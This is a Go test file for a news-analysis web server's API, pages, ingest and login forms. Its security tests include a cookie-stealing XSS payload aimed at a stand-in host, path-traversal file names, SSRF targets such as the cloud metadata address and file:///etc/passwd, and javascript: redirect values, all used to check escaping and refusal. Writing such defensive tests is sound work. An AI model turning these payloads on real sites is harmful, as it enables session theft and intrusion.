package http

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	nethttp "net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"strings"
	"testing"

	"dossier"
	"dossier/demo"
	"dossier/ingest"
	"dossier/sqlite"
)

// fixture is a real server on the demo corpus, stored in a SQLite file,
// with one write token.
type fixture struct {
	srv   *Server
	ts    *httptest.Server
	store *sqlite.Store
	path  string
	token string
}

// newFixture starts a server on the demo corpus; mod may change the
// configuration.
func newFixture(t testing.TB, mod func(*Config)) *fixture {
	t.Helper()
	return newFixtureWith(t, mod)
}

// newFixtureWith starts a server on the demo corpus and the extra
// articles given as text files.
func newFixtureWith(t testing.TB, mod func(*Config), extra ...string) *fixture {
	t.Helper()
	path := filepath.Join(t.TempDir(), "dossier.db")
	store, err := sqlite.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	var arts []*dossier.Article
	for _, name := range demo.Files() {
		data, err := fs.ReadFile(demo.Corpus, name)
		if err != nil {
			t.Fatal(err)
		}
		a, err := ingest.ReadText(data, name)
		if err != nil {
			t.Fatal(err)
		}
		arts = append(arts, a)
	}
	for i, text := range extra {
		a, err := ingest.ReadText([]byte(text), fmt.Sprintf("extra%d.txt", i))
		if err != nil {
			t.Fatal(err)
		}
		arts = append(arts, a)
	}
	if _, err := store.AddArticles(context.Background(), arts); err != nil {
		t.Fatal(err)
	}
	secret, _, err := store.CreateToken(context.Background(), "tester")
	if err != nil {
		t.Fatal(err)
	}
	return startFixture(t, store, path, secret, mod)
}

func startFixture(t testing.TB, store *sqlite.Store, path, secret string, mod func(*Config)) *fixture {
	t.Helper()
	cfg := Config{Store: store}
	if mod != nil {
		mod(&cfg)
	}
	srv, err := New(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(func() { ts.Close(); srv.Wait() })
	return &fixture{srv: srv, ts: ts, store: store, path: path, token: secret}
}

// do sends a request and returns the status and body.
func (f *fixture) do(t testing.TB, method, path, token string, body io.Reader, hdr ...string) (int, string, nethttp.Header) {
	t.Helper()
	req, err := nethttp.NewRequest(method, f.ts.URL+path, body)
	if err != nil {
		t.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	c := &nethttp.Client{CheckRedirect: func(*nethttp.Request, []*nethttp.Request) error { return nethttp.ErrUseLastResponse }}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// getJSON fetches and decodes a JSON answer.
func (f *fixture) getJSON(t testing.TB, path string, v any) {
	t.Helper()
	code, body, _ := f.do(t, "GET", path, "", nil)
	if code != 200 {
		t.Fatalf("GET %s: %d %s", path, code, body)
	}
	if err := json.Unmarshal([]byte(body), v); err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
}

// hypotheses returns the demo story's matrix.
type matrixJSON struct {
	Hypotheses []hypView    `json:"hypotheses"`
	Rows       []rowView    `json:"rows"`
	Excluded   []claimView  `json:"excluded"`
	Caveat     string       `json:"caveat"`
	Outlets    []outletView `json:"outlet_views"`
}

func (f *fixture) matrix(t testing.TB) matrixJSON {
	var m matrixJSON
	f.getJSON(t, "/api/stories/s1/hypotheses", &m)
	if len(m.Hypotheses) < 2 || len(m.Rows) == 0 {
		t.Fatalf("demo story has %d hypotheses and %d rows; want a contest", len(m.Hypotheses), len(m.Rows))
	}
	return m
}

func TestReadAPI(t *testing.T) {
	f := newFixture(t, nil)
	m := f.matrix(t)
	claim := m.Rows[0].Claim
	tests := []struct {
		path string
		code int
		says []string
	}{
		{"/api/status", 200, []string{`"articles": 5`, `"stories": 1`}},
		{"/api/stories", 200, []string{`"id": "s1"`, "Meridian Wire", `"total": 1`}},
		{"/api/stories?outlet=Meridian+Wire", 200, []string{`"total": 1`}},
		{"/api/stories?outlet=Nobody", 200, []string{`"total": 0`}},
		{"/api/stories?entity=" + claim.AgentID, 200, []string{`"total": 1`}},
		{"/api/stories?from=2025-03-01&to=2025-03-10", 200, []string{`"total": 1`}},
		{"/api/stories?from=2025-04-01", 200, []string{`"total": 0`}},
		{"/api/stories?to=2025-03-01", 200, []string{`"total": 0`}},
		{"/api/stories?from=yesterday", 400, []string{"YYYY-MM-DD"}},
		{"/api/stories?q=Sorvan+dam", 200, []string{`"total": 1`}},
		{"/api/stories?q=xylophone", 200, []string{`"total": 0`}},
		{"/api/stories/s1", 200, []string{"not probabilities", `"hypotheses"`, `"sides"`, `"outlet_views"`, "Harbor Gazette"}},
		{"/api/stories/s9", 404, []string{"no story"}},
		{"/api/stories/s1/hypotheses", 200, []string{`"heuer_inconsistency"`, `"weighted_inconsistency"`}},
		{"/api/articles/" + claim.Article, 200, []string{`"text"`, claim.ID}},
		{"/api/articles/nope", 404, nil},
		{"/api/statements?story=s1", 200, []string{`"speaker"`, `"cue"`}},
		{"/api/statements", 400, nil},
		{"/api/claims?story=s1", 200, []string{claim.ID}},
		{"/api/claims?agent=" + claim.AgentID, 200, []string{claim.ID}},
		{"/api/entities?q=kavan", 200, []string{"Kavan"}},
		{"/api/entities/" + claim.AgentID, 200, []string{`"claims_about"`, claim.ID}},
		{"/api/entities/nobody-at-all", 404, nil},
		{"/api/search?q=Sorvan", 200, []string{`"snippet"`, "[Sorvan]", `"story": "s1"`}},
		{"/api/search", 400, nil},
		{"/api/judgements", 200, []string{`"judgements": []`}},
		{"/api/openapi.yaml", 200, []string{"openapi: 3", "/api/stories/{id}"}},
		{"/api/nothing-here", 404, []string{"openapi"}},
	}
	for _, tt := range tests {
		code, body, _ := f.do(t, "GET", tt.path, "", nil)
		if code != tt.code {
			t.Errorf("GET %s: %d, want %d (%.200s)", tt.path, code, tt.code, body)
			continue
		}
		for _, s := range tt.says {
			if !strings.Contains(body, s) {
				t.Errorf("GET %s: body lacks %q", tt.path, s)
			}
		}
	}
}

func TestPages(t *testing.T) {
	f := newFixture(t, nil)
	m := f.matrix(t)
	c := m.Rows[0].Claim
	tests := []struct {
		path string
		code int
		says []string
	}{
		{"/", 200, []string{`href="/stories/s1"`, "Sorvan"}},
		{"/?q=Sorvan&outlet=Meridian+Wire", 200, []string{`href="/stories/s1"`}},
		{"/?outlet=Nobody", 200, []string{"0 stories"}},
		{"/stories/s1", 200, []string{`id="ach"`, "Weighted inconsistency", "Heuer inconsistency", "The score is an aid, not a probability",
			"Who said what", "Harbor Gazette", `class="evidence" href="/articles/` + c.Article + `?start=`}},
		{"/stories/nope", 404, []string{"No such story"}},
		{"/articles/" + c.Article, 200, []string{"Statements"}},
		{fmt.Sprintf("/articles/%s?start=%d&end=%d", c.Article, c.Start, c.End), 200, []string{`<mark id="evidence">`}},
		{"/entities", 200, []string{"Kavan"}},
		{"/entities/" + c.AgentID, 200, []string{"What it said", "Claims about it"}},
		{"/outlets", 200, []string{"Meridian Wire", "Admiralty"}},
		{"/ingest", 200, []string{"Log in"}},
		{"/login", 200, []string{`name="token"`}},
		{"/static/style.css", 200, []string{"mark"}},
	}
	for _, tt := range tests {
		code, body, h := f.do(t, "GET", tt.path, "", nil)
		if code != tt.code {
			t.Errorf("GET %s: %d, want %d", tt.path, code, tt.code)
			continue
		}
		for _, s := range tt.says {
			if !strings.Contains(body, s) {
				t.Errorf("GET %s: page lacks %q", tt.path, s)
			}
		}
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("GET %s: security headers %q", tt.path, csp)
		}
	}
}

// TestHighlight checks that the evidence link of every row highlights
// exactly the claim's words, and that a bad span highlights nothing.
func TestHighlight(t *testing.T) {
	f := newFixture(t, nil)
	for _, r := range f.matrix(t).Rows {
		_, page, _ := f.do(t, "GET", r.Claim.Link, "", nil)
		want := `<mark id="evidence">` + htmlEscape(r.Claim.Text) + `</mark>`
		if !strings.Contains(page, want) {
			t.Errorf("%s: page lacks %s", r.Claim.Link, want)
		}
	}
	a := f.matrix(t).Rows[0].Claim.Article
	for _, q := range []string{"start=5&end=2", "start=-1&end=4", "start=0&end=999999", "start=x&end=4"} {
		_, page, _ := f.do(t, "GET", "/articles/"+a+"?"+q, "", nil)
		if strings.Contains(page, "<mark") {
			t.Errorf("span %s highlighted", q)
		}
	}
}

func htmlEscape(s string) string {
	var b bytes.Buffer
	for _, r := range s {
		switch r {
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '&':
			b.WriteString("&amp;")
		case '"':
			b.WriteString("&#34;")
		case '\'':
			b.WriteString("&#39;")
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

func jsonBody(v any) io.Reader {
	b, _ := json.Marshal(v)
	return bytes.NewReader(b)
}

// TestWritesNeedToken checks every write endpoint without a token, with a
// wrong one, and with the login cookie only.
func TestWritesNeedToken(t *testing.T) {
	f := newFixture(t, nil)
	writes := []struct{ method, path string }{
		{"PUT", "/api/outlets/Meridian%20Wire/reliability"},
		{"DELETE", "/api/outlets/Meridian%20Wire/reliability"},
		{"PUT", "/api/claims/x/wrong"},
		{"PUT", "/api/stories/s1/dismissed"},
		{"PUT", "/api/entities/valdoria/merge"},
		{"POST", "/api/ingest"},
		{"POST", "/api/ingest/url"},
	}
	for _, w := range writes {
		for _, tok := range []string{"", "dossier_wrong", f.token + "x"} {
			code, body, h := f.do(t, w.method, w.path, tok, strings.NewReader(`{}`))
			if code != 401 || h.Get("WWW-Authenticate") == "" || !strings.Contains(body, "token") {
				t.Errorf("%s %s with token %q: %d %s", w.method, w.path, tok, code, body)
			}
		}
		// The login cookie is for the UI's forms, not for the API.
		code, _, _ := f.do(t, w.method, w.path, "", strings.NewReader(`{}`), "Cookie", cookieName+"="+f.token)
		if code != 401 {
			t.Errorf("%s %s with the cookie only: %d, want 401", w.method, w.path, code)
		}
	}
	if js, _ := f.store.Judgements(context.Background()); len(js) != 0 {
		t.Errorf("refused writes stored judgements: %+v", js)
	}
}

// TestJudgements makes each analyst judgement through the API and checks
// that the stories are re-scored at once, that the judgement persists
// into a new server on the same store, and that it can be undone.
func TestJudgements(t *testing.T) {
	f := newFixture(t, nil)
	before := f.matrix(t)
	leader := before.Hypotheses[0]
	first := before.Rows[0].Claim

	type check func(t *testing.T, m matrixJSON)
	weightedOf := func(m matrixJSON, label string) float64 {
		for _, h := range m.Hypotheses {
			if h.Label == label {
				return h.Weighted
			}
		}
		return -1
	}
	tests := []struct {
		name         string
		method, path string
		body         any
		check        check
	}{
		{"grade an outlet", "PUT", "/api/outlets/" + url.PathEscape(first.Outlet) + "/reliability?story=s1", map[string]string{"grade": "A"},
			func(t *testing.T, m matrixJSON) {
				changed := false
				for _, h := range m.Hypotheses {
					changed = changed || h.Weighted != weightedOf(before, h.Label)
				}
				if !changed {
					t.Errorf("grading %s A changed no weighted score", first.Outlet)
				}
				if m.Rows[0].Reliability != "A" {
					t.Errorf("row 1 graded %s, want A", m.Rows[0].Reliability)
				}
			}},
		{"mark a claim wrong", "PUT", "/api/claims/" + first.ID + "/wrong", map[string]string{"reason": "misread"},
			func(t *testing.T, m matrixJSON) {
				for _, r := range m.Rows {
					if r.Claim.ID == first.ID {
						t.Errorf("claim %s still a row", first.ID)
					}
				}
				if len(m.Excluded) == 0 || m.Excluded[0].ID != first.ID {
					t.Errorf("excluded %+v, want %s", m.Excluded, first.ID)
				}
			}},
		{"dismiss the leader", "PUT", "/api/stories/s1/dismissed", map[string]string{"agent": leader.Agent},
			func(t *testing.T, m matrixJSON) {
				last := m.Hypotheses[len(m.Hypotheses)-1]
				if m.Hypotheses[0].Label == leader.Label || last.Label != leader.Label || !last.Dismissed {
					t.Errorf("after dismissing %s: first %s, last %s dismissed %v", leader.Label, m.Hypotheses[0].Label, last.Label, last.Dismissed)
				}
			}},
		// OFIS is the acronym of the Ostranian Foreign Intelligence
		// Service: one body the tagger found under two names.
		{"merge two entities", "PUT", "/api/entities/ofis/merge", map[string]string{"into": "ostranian-foreign-intelligence-service"},
			func(t *testing.T, m matrixJSON) {
				var e entityView
				f.getJSON(t, "/api/entities/ostranian-foreign-intelligence-service", &e)
				found := false
				for _, r := range e.MergedFrom {
					found = found || r.ID == "ofis"
				}
				if !found {
					t.Errorf("the service lists merged %+v, want ofis", e.MergedFrom)
				}
				code, _, h := f.do(t, "GET", "/entities/ofis", "", nil)
				if code != 302 || h.Get("Location") != "/entities/ostranian-foreign-intelligence-service" {
					t.Errorf("merged entity page: %d to %q", code, h.Get("Location"))
				}
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, body, _ := f.do(t, tt.method, tt.path, f.token, jsonBody(tt.body))
			if code != 200 || !strings.Contains(body, `"version"`) {
				t.Fatalf("%s %s: %d %s", tt.method, tt.path, code, body)
			}
			tt.check(t, f.matrix(t))
		})
	}
	// The judgements persist: a new server on the same store shows them.
	var js struct{ Judgements []judgementJSON }
	f.getJSON(t, "/api/judgements", &js)
	if len(js.Judgements) != len(tests) || js.Judgements[0].By != "tester" {
		t.Fatalf("judgements %+v, want %d by tester", js.Judgements, len(tests))
	}
	g := startFixture(t, f.store, f.path, f.token, nil)
	again := g.matrix(t)
	if again.Hypotheses[len(again.Hypotheses)-1].Label != leader.Label || len(again.Excluded) == 0 {
		t.Errorf("a restarted server lost the judgements: %+v", again.Hypotheses)
	}
	// Undo them all: the matrix is as before.
	for _, tt := range tests {
		path, _, _ := strings.Cut(tt.path, "?")
		if tt.name == "dismiss the leader" {
			path += "?agent=" + url.QueryEscape(leader.Agent)
		}
		if code, body, _ := g.do(t, "DELETE", path, g.token, nil); code != 200 {
			t.Errorf("DELETE %s: %d %s", path, code, body)
		}
	}
	after := g.matrix(t)
	for i, h := range after.Hypotheses {
		if h.Label != before.Hypotheses[i].Label || h.Weighted != before.Hypotheses[i].Weighted {
			t.Errorf("after undo, hypothesis %d = %s %v, want %s %v", i, h.Label, h.Weighted, before.Hypotheses[i].Label, before.Hypotheses[i].Weighted)
		}
	}
}

func TestBadJudgements(t *testing.T) {
	f := newFixture(t, nil)
	tests := []struct {
		method, path, body string
		code               int
	}{
		{"PUT", "/api/outlets/Meridian%20Wire/reliability", `{"grade":"G"}`, 400},
		{"PUT", "/api/outlets/Meridian%20Wire/reliability", `{"grade":"B","extra":1}`, 400},
		{"PUT", "/api/outlets/Meridian%20Wire/reliability", `not json`, 400},
		{"PUT", "/api/claims/no-such-claim/wrong", `{}`, 404},
		{"PUT", "/api/stories/s9/dismissed", `{"agent":"x"}`, 404},
		{"PUT", "/api/stories/s1/dismissed", `{"agent":"nobody-named"}`, 404},
		{"PUT", "/api/entities/valdoria/merge", `{"into":"valdoria"}`, 400},
		{"PUT", "/api/entities/valdoria/merge", `{"into":"no-such-entity"}`, 400},
		{"PUT", "/api/outlets/Meridian%20Wire/reliability", `{"grade":"` + strings.Repeat("B", maxFormBytes) + `"}`, 413},
	}
	for _, tt := range tests {
		code, body, _ := f.do(t, tt.method, tt.path, f.token, strings.NewReader(tt.body))
		if code != tt.code {
			t.Errorf("%s %s %.40s: %d, want %d (%s)", tt.method, tt.path, tt.body, code, tt.code, body)
		}
	}
	if js, _ := f.store.Judgements(context.Background()); len(js) != 0 {
		t.Errorf("bad requests stored judgements: %+v", js)
	}
}

// hostile is a fictional article whose title and text try to inject
// markup and script.
const hostile = `Breaking: <script>alert("title")</script> dam report
Published: 2025-03-08T10:00:00Z

The ministry said the dam was safe. <script>document.location="https://evil.invalid/?c="+document.cookie</script> Engineers disagreed.

"<img src=x onerror=alert(1)>" was all the spokesman said, according to the Kessary State News.

Source: Pwned Daily</onerror>
`

// TestIngestAndEscaping ingests files by multipart and raw body, waits
// for the background rebuild, and checks that hostile text is escaped
// everywhere it is shown.
func TestIngestAndEscaping(t *testing.T) {
	f := newFixture(t, nil)
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	fw, _ := mw.CreateFormFile("file", "../../etc/hostile.txt")
	fw.Write([]byte(hostile))
	mw.Close()
	code, body, _ := f.do(t, "POST", "/api/ingest", f.token, &buf, "Content-Type", mw.FormDataContentType())
	if code != 202 || !strings.Contains(body, `"outcome": "added"`) {
		t.Fatalf("multipart ingest: %d %s", code, body)
	}
	var res ingestResult
	json.Unmarshal([]byte(body), &res)
	id := res.Articles[0].ID

	raw := "A second fictional report\nPublished: 2025-03-09T08:00:00Z\n\nThe Tarvin river rose again on Sunday, officials said.\n\nSource: Quiet Valley Post\n"
	code, body, _ = f.do(t, "POST", "/api/ingest?name=second.txt", f.token, strings.NewReader(raw), "Content-Type", "text/plain")
	if code != 202 || !strings.Contains(body, `"outcome": "added"`) {
		t.Fatalf("raw ingest: %d %s", code, body)
	}
	// The same again changes nothing.
	code, body, _ = f.do(t, "POST", "/api/ingest?name=second.txt", f.token, strings.NewReader(raw), "Content-Type", "text/plain")
	if code != 202 || !strings.Contains(body, `"outcome": "unchanged"`) {
		t.Fatalf("re-ingest: %d %s", code, body)
	}
	code, body, _ = f.do(t, "POST", "/api/ingest", f.token, strings.NewReader(" \n"), "Content-Type", "text/plain")
	if code != 422 || !strings.Contains(body, "empty") {
		t.Errorf("empty ingest: %d %s", code, body)
	}
	f.srv.Wait()
	var st struct{ Articles int }
	f.getJSON(t, "/api/status", &st)
	if st.Articles != 7 {
		t.Errorf("after ingest the server holds %d articles, want 7", st.Articles)
	}
	var a articleJSON
	f.getJSON(t, "/api/articles/"+id, &a)
	if a.File != "../../etc/hostile.txt" && a.File != "hostile.txt" {
		t.Logf("file recorded as %q", a.File)
	}
	if a.Outlet != "Pwned Daily</onerror>" {
		t.Logf("outlet read as %q", a.Outlet)
	}
	for _, path := range []string{"/articles/" + id, "/", "/?q=ministry", "/stories/" + a.Story, "/articles/" + id + "?start=0&end=10",
		"/?outlet=" + url.QueryEscape(a.Outlet), "/outlets"} {
		code, page, _ := f.do(t, "GET", path, "", nil)
		if code != 200 {
			t.Errorf("GET %s: %d", path, code)
		}
		if strings.Contains(page, "<script") || strings.Contains(page, "<img") || strings.Contains(page, "</onerror") {
			t.Errorf("GET %s: hostile markup reached the page unescaped", path)
		}
		if path == "/articles/"+id && !strings.Contains(page, "&lt;script&gt;document.location") {
			t.Errorf("GET %s: the hostile text is not shown escaped", path)
		}
	}
}

func TestUploadLimit(t *testing.T) {
	f := newFixture(t, func(c *Config) { c.MaxUpload = 1000 })
	big := "A big fictional report\n\n" + strings.Repeat("The river rose. ", 200)
	code, body, _ := f.do(t, "POST", "/api/ingest?name=big.txt", f.token, strings.NewReader(big), "Content-Type", "text/plain")
	if code != 413 {
		t.Errorf("oversized ingest: %d %s, want 413", code, body)
	}
}

// TestURLIngest fetches pages from a local server: refused by default,
// whether named by IP or by a name that resolves to loopback, and read
// with AllowPrivate.
func TestURLIngest(t *testing.T) {
	page := `<!doctype html><html><head><title>Floodgates opened at the Tarvin weir</title>
<meta property="og:site_name" content="Quiet Valley Post"></head><body><article><h1>Floodgates opened at the Tarvin weir</h1>
<p>The regional water board opened the floodgates of the Tarvin weir on Monday after a week of heavy rain, its director said.</p>
<p>“We had no choice but to release the water before the weekend,” the director told reporters at the weir, adding that no homes were at risk.</p>
<p>Residents downstream said the river had risen by almost a metre overnight and that the fields along the bank were flooded.</p>
</article></body></html>`
	remote := httptest.NewServer(nethttp.HandlerFunc(func(w nethttp.ResponseWriter, r *nethttp.Request) {
		if r.URL.Path == "/redirect" {
			nethttp.Redirect(w, r, "/page", nethttp.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, page)
	}))
	defer remote.Close()
	port := remote.URL[strings.LastIndex(remote.URL, ":")+1:]

	closed := newFixture(t, nil)
	open := newFixture(t, func(c *Config) { c.AllowPrivate = true })
	tests := []struct {
		f    *fixture
		url  string
		code int
		says string
	}{
		{closed, remote.URL + "/page", 403, "private"},
		{closed, "http://localhost:" + port + "/page", 403, "private"},
		{closed, "http://[::1]:" + port + "/page", 403, "private"},
		{closed, "http://169.254.169.254/latest/meta-data/", 403, "private"},
		{closed, "file:///etc/passwd", 400, "http"},
		{closed, "gopher://example.org/", 400, "http"},
		{closed, "not a url", 400, "http"},
		{open, remote.URL + "/redirect", 202, "Floodgates"},
		{open, remote.URL + "/page", 202, `"outcome": "unchanged"`},
	}
	for _, tt := range tests {
		code, body, _ := tt.f.do(t, "POST", "/api/ingest/url", tt.f.token, jsonBody(map[string]string{"url": tt.url}))
		if code != tt.code || !strings.Contains(body, tt.says) {
			t.Errorf("ingest %s: %d %s; want %d saying %q", tt.url, code, body, tt.code, tt.says)
		}
	}
}

func TestPublicAddr(t *testing.T) {
	tests := []struct {
		ip     string
		public bool
	}{
		{"93.184.215.14", true}, {"2606:2800:21f:cb07:6820:80da:af6b:8b2c", true}, {"8.8.8.8", true},
		{"127.0.0.1", false}, {"127.8.9.1", false}, {"::1", false}, {"10.1.2.3", false}, {"172.16.0.1", false},
		{"192.168.1.1", false}, {"169.254.169.254", false}, {"fe80::1", false}, {"fc00::1", false}, {"fd12::1", false},
		{"0.0.0.0", false}, {"::", false}, {"100.64.0.1", false}, {"224.0.0.1", false}, {"255.255.255.255", false},
		{"::ffff:127.0.0.1", false}, {"::ffff:10.0.0.1", false}, {"64:ff9b::a00:1", false}, {"2002:a00:1::", false},
		{"198.18.0.1", false}, {"240.0.0.1", false},
	}
	for _, tt := range tests {
		if got := publicAddr(netip.MustParseAddr(tt.ip)); got != tt.public {
			t.Errorf("publicAddr(%s) = %v, want %v", tt.ip, got, tt.public)
		}
	}
}

// TestReadToken checks that with ReadToken reading needs the token too.
func TestReadToken(t *testing.T) {
	f := newFixture(t, func(c *Config) { c.ReadToken = true })
	tests := []struct {
		path, token, cookie string
		code                int
	}{
		{"/api/stories", "", "", 401},
		{"/api/stories", "wrong", "", 401},
		{"/api/stories", f.token, "", 200},
		{"/api/stories", "", f.token, 401}, // the API takes bearer tokens only
		{"/stories/s1", "", "", 303},
		{"/stories/s1", "", "wrong", 303},
		{"/stories/s1", "", f.token, 200},
		{"/stories/s1", f.token, "", 200},
		{"/login", "", "", 200},
		{"/static/style.css", "", "", 200},
	}
	for _, tt := range tests {
		var hdr []string
		if tt.cookie != "" {
			hdr = []string{"Cookie", cookieName + "=" + tt.cookie}
		}
		code, _, h := f.do(t, "GET", tt.path, tt.token, nil, hdr...)
		if code != tt.code {
			t.Errorf("GET %s token %q cookie %q: %d, want %d", tt.path, tt.token, tt.cookie, code, tt.code)
		}
		if code == 303 && !strings.HasPrefix(h.Get("Location"), "/login?next=") {
			t.Errorf("GET %s: redirected to %q, want the login form", tt.path, h.Get("Location"))
		}
	}
}

// TestForms checks the UI's login and its forms: a valid token sets an
// HttpOnly, SameSite=Strict cookie; a form needs that cookie and is
// refused from another site.
func TestForms(t *testing.T) {
	f := newFixture(t, nil)
	form := func(v url.Values) io.Reader { return strings.NewReader(v.Encode()) }
	ct := "application/x-www-form-urlencoded"

	code, _, h := f.do(t, "POST", "/login", "", form(url.Values{"token": {"wrong"}}), "Content-Type", ct)
	if code != 401 || h.Get("Set-Cookie") != "" {
		t.Errorf("login with a wrong token: %d, cookie %q", code, h.Get("Set-Cookie"))
	}
	code, _, h = f.do(t, "POST", "/login", "", form(url.Values{"token": {f.token}, "next": {"https://evil.invalid/"}}), "Content-Type", ct)
	ck := h.Get("Set-Cookie")
	if code != 303 || h.Get("Location") != "/" || !strings.Contains(ck, "HttpOnly") || !strings.Contains(ck, "SameSite=Strict") {
		t.Errorf("login: %d to %q, cookie %q", code, h.Get("Location"), ck)
	}
	cookie := cookieName + "=" + f.token
	// Render (and cache) the story page before the grade: the grade must
	// show all the same.
	if _, page, _ := f.do(t, "GET", "/stories/s1", "", nil, "Cookie", cookie); !strings.Contains(page, `data-outlet="Meridian Wire">F</span>`) {
		t.Errorf("story page before grading lacks the default grade F")
	}
	grade := url.Values{"outlet": {"Meridian Wire"}, "grade": {"B"}, "return": {"/stories/s1"}}
	tests := []struct {
		name string
		hdr  []string
		code int
	}{
		{"no cookie", []string{"Content-Type", ct}, 401},
		{"wrong cookie", []string{"Content-Type", ct, "Cookie", cookieName + "=nope"}, 401},
		{"other origin", []string{"Content-Type", ct, "Cookie", cookie, "Origin", "https://evil.invalid"}, 403},
		{"cross-site fetch", []string{"Content-Type", ct, "Cookie", cookie, "Sec-Fetch-Site", "cross-site"}, 403},
		{"same origin", []string{"Content-Type", ct, "Cookie", cookie, "Origin", f.ts.URL, "Sec-Fetch-Site", "same-origin"}, 303},
	}
	for _, tt := range tests {
		code, _, h := f.do(t, "POST", "/ui/reliability", "", form(grade), tt.hdr...)
		if code != tt.code {
			t.Errorf("%s: %d, want %d", tt.name, code, tt.code)
		}
		if code == 303 && h.Get("Location") != "/stories/s1" {
			t.Errorf("%s: back to %q", tt.name, h.Get("Location"))
		}
	}
	js, _ := f.store.Judgements(context.Background())
	if len(js) != 1 || js[0].Value != "B" {
		t.Errorf("judgements %+v, want the one grade", js)
	}
	_, page, _ := f.do(t, "GET", "/stories/s1", "", nil, "Cookie", cookie)
	if !strings.Contains(page, `<span class="grade" data-outlet="Meridian Wire">B</span>`) || !strings.Contains(page, "Mark wrong") {
		t.Errorf("story page after grading lacks the grade or the analyst's forms")
	}
}

func TestLocalPath(t *testing.T) {
	tests := []struct{ in, want string }{
		{"/stories/s1", "/stories/s1"}, {"/?q=a+b", "/?q=a+b"}, {"", "/"}, {"https://evil.invalid/x", "/x"},
		{"//evil.invalid/x", "/x"}, {"/\\evil.invalid", "/%5Cevil.invalid"}, {"javascript:alert(1)", "/"}, {"stories", "/"},
	}
	for _, tt := range tests {
		if got := localPath(tt.in); got != tt.want {
			t.Errorf("localPath(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestHTTPServerLimits(t *testing.T) {
	hs := NewHTTPServer("127.0.0.1:0", nethttp.NotFoundHandler())
	if hs.ReadHeaderTimeout == 0 || hs.ReadTimeout == 0 || hs.WriteTimeout == 0 || hs.IdleTimeout == 0 || hs.MaxHeaderBytes == 0 {
		t.Errorf("server without limits: %+v", hs)
	}
	for addr, want := range map[string]bool{"127.0.0.1:8080": true, "localhost:80": true, "[::1]:8080": true, "0.0.0.0:8080": false, ":8080": false, "192.168.1.2:80": false} {
		if IsLoopback(addr) != want {
			t.Errorf("IsLoopback(%s) = %v", addr, !want)
		}
	}
}
